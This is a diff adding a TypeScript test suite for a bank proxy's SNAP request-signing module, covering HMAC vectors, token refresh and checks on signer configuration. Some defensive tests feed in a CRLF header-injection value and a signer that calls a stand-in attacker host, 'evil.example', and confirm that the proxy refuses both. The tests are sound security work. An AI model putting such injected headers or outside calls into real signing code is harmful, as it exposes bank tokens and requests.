@@ -1,0 +1,187 @@
+/** Another bank's way of signing, by a module: SNAP's as the example. */
+import assert from 'node:assert/strict'
+import { createHash, createHmac, createPublicKey, verify } from 'node:crypto'
+import { after, before, describe, test } from 'node:test'
+import type { SignRequest } from '../../../../src/proxy/types.ts'
+import { inspectConfig, type EnvVariables } from '../../../../src/proxy/config/config.ts'
+import { development, fullAnswer, JOURNEY, ok, setUp, START, testKey, verdict } from '../rig.ts'
+
+const SNAP = new URL('../../../../demo/operate/snap.mjs', import.meta.url).href
+const SECRET = 'TEST-ONLY client secret'
+const TOKEN_PATH = '/v1.0/access-token/b2b'
+
+interface Snap {
+  readonly default: SignRequest
+  createSnap(settings: { clientSecret: string; channelId: string; tokenPath?: string }): SignRequest
+  hmac(secret: string, text: string): string
+  stringToSign(
+    request: { method: string; path: string; query: string; body: string },
+    token: string,
+    timestamp: string,
+  ): string
+}
+
+describe('a signing module for SNAP', () => {
+  let snap: Snap
+  before(async () => {
+    Object.assign(process.env, { SNAP_CLIENT_SECRET: SECRET, SNAP_CHANNEL_ID: '95221' })
+    snap = (await import(SNAP)) as Snap
+  })
+  after(() => {
+    delete process.env['SNAP_CLIENT_SECRET']
+    delete process.env['SNAP_CHANNEL_ID']
+  })
+
+  /** A bank that gives tokens for a signature of the key, and answers requests with theirs. */
+  const bank = (tokens: string[], expiresIn = '900') => {
+    const given: string[] = []
+    return {
+      given,
+      answer({ url, init }: { url: string; init: { headers: Record<string, string>; body?: string } }) {
+        const { headers, body = '' } = init
+        if (url.endsWith(TOKEN_PATH)) {
+          const text = `${headers['X-CLIENT-KEY']}|${headers['X-TIMESTAMP']}`
+          const signature = Buffer.from(headers['X-SIGNATURE'] ?? '', 'base64')
+          if (!verify('sha256', Buffer.from(text), createPublicKey(testKey), signature))
+            return Response.json({ responseCode: '4017300' }, { status: 401 })
+          const accessToken = tokens[given.length]
+          if (!accessToken) return Response.json({ responseCode: '5007300' }, { status: 500 })
+          given.push(accessToken)
+          return Response.json({ responseCode: '2007300', accessToken, tokenType: 'Bearer', expiresIn })
+        }
+        const token = headers['authorization']?.replace('Bearer ', '') ?? ''
+        const digest = createHash('sha256').update(body).digest('hex')
+        const { pathname } = new URL(url)
+        const text = `POST:${pathname}:${token}:${digest}:${headers['X-TIMESTAMP']}`
+        const expected = createHmac('sha512', SECRET).update(text).digest('base64')
+        const isRight = given.at(-1) === token && headers['X-SIGNATURE'] === expected
+        return isRight
+          ? ok(fullAnswer)
+          : Response.json({ code: 9020, message: 'x', data: {} }, { status: 401 })
+      },
+    }
+  }
+  const ask = (rig: Awaited<ReturnType<typeof setUp>>) => rig.call('get-msisdn', { journeyId: JOURNEY })
+
+  test('makes what RFC 4231 says, test case 2', () => {
+    assert.equal(
+      Buffer.from(snap.hmac('Jefe', 'what do ya want for nothing?'), 'base64').toString('hex'),
+      '164b7a7bfcf819e2e395fbe73b56e0a387bd64222e831fd610270cd7ea2505549758bf75c05a994a6d034f65f8f0e6fdcaeab1a34d4a6b4b636e070a38bce737',
+    )
+  })
+
+  test("joins method, path, token, the body's digest (FIPS 180-4) and time", () => {
+    const request = { method: 'GET', path: '/api/v1/x', query: 'a=1', body: '' }
+    assert.equal(
+      snap.stringToSign(request, 'token', '2026-11-21T10:00:00+07:00'),
+      'GET:/api/v1/x?a=1:token:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855:2026-11-21T10:00:00+07:00',
+    )
+  })
+
+  test('signs requests with a token that it asks for once', async () => {
+    const { answer, given } = bank(['token-1'])
+    const rig = await setUp({
+      answer,
+      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
+    })
+    const answers = await Promise.all([ask(rig), ask(rig)])
+    assert.deepEqual(
+      answers.map(({ status }) => status),
+      [200, 200],
+    )
+    assert.deepEqual(given, ['token-1'])
+    const headers = rig.asked.at(-1)?.init.headers ?? {}
+    assert.equal(headers['X-TIMESTAMP'], '2026-11-21T10:00:00+07:00')
+    assert.equal(START, Date.parse('2026-11-21T10:00:00+07:00'))
+    assert.match(headers['X-EXTERNAL-ID'] ?? '', /^\d{1,36}$/)
+    assert.equal(headers['sign'], undefined)
+  })
+
+  test('asks for another token before the one that it has ends', async () => {
+    const { answer, given } = bank(['token-1', 'token-2'], '60')
+    const rig = await setUp({
+      answer,
+      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
+    })
+    assert.equal((await ask(rig)).status, 200)
+    rig.clock.now += 29_000
+    assert.equal((await ask(rig)).status, 200)
+    rig.clock.now += 2_000
+    assert.equal((await ask(rig)).status, 200)
+    assert.deepEqual(given, ['token-1', 'token-2'])
+  })
+
+  test('without a token nothing is sent, and the next request asks again', async () => {
+    const tokens: string[] = []
+    const { answer } = bank(tokens)
+    const rig = await setUp({
+      answer,
+      signRequest: snap.createSnap({ clientSecret: SECRET, channelId: '1' }),
+    })
+    const refused = await ask(rig)
+    assert.equal(refused.headers.get('bank-sent'), 'no')
+    assert.equal(refused.status, 503)
+    tokens.push('token-1')
+    assert.equal((await ask(rig)).status, 200)
+  })
+})
+
+describe('SIGNING_MODULE', () => {
+  const inspect = (exported: unknown, change: EnvVariables = {}) =>
+    inspectConfig(
+      { ...development, SIGNING_MODULE: '/etc/sign.mjs', ...change },
+      {
+        readFile: () => Promise.reject(new Error('no such file')),
+        random: (bytes) => new Uint8Array(bytes),
+        loadModule: async () => exported,
+      },
+    )
+
+  test('signs with its function', async () => {
+    const sign = () => ({ 'x-proof': 'yes' })
+    const { settings, problems } = await inspect(sign)
+    assert.deepEqual(problems, [])
+    assert.equal(settings?.config.signRequest, sign)
+  })
+
+  test('without a function is a mistake', async () => {
+    const { problems } = await inspect({})
+    assert.match(problems.join(), /^SIGNING_MODULE must export a function by default/)
+  })
+
+  for (const [what, headers] of [
+    ['of the connection', { 'Content-Length': '1' }],
+    ['with a line break', { 'x-proof': 'a\r\nhost: x' }],
+    ['without a text', { 'x-proof': undefined as unknown as string }],
+    ['without a name', { '': 'x' }],
+  ] as const) {
+    test(`refuses a header ${what}: nothing is sent`, async () => {
+      const rig = await setUp({ signRequest: () => ({ ...headers }) })
+      const answer = await rig.call('get-msisdn', { journeyId: JOURNEY })
+      assert.equal(answer.headers.get('bank-sent'), 'no')
+      assert.deepEqual(await verdict(answer), [503, '9004'])
+      assert.equal(rig.asked.length, 0)
+    })
+  }
+
+  test('that takes too long sends nothing', async () => {
+    const rig = await setUp({ signerTimeoutMs: 1, signRequest: () => new Promise(() => undefined) })
+    const answer = await rig.call('get-msisdn', { journeyId: JOURNEY })
+    assert.equal(answer.headers.get('bank-sent'), 'no')
+    assert.deepEqual(
+      rig.lines.filter(({ event }) => event === 'signer-failed').map((line) => line['why']),
+      ['TimeoutError'],
+    )
+  })
+
+  test('asks nobody but the bank', async () => {
+    const rig = await setUp({
+      signRequest: async ({ fetch }) => {
+        await fetch('//evil.example/token', { method: 'POST', headers: {}, body: '' })
+        return {}
+      },
+    })
+    assert.equal((await rig.call('get-msisdn', { journeyId: JOURNEY })).status, 503)
+    assert.equal(rig.asked.length, 0)
+  })
+})
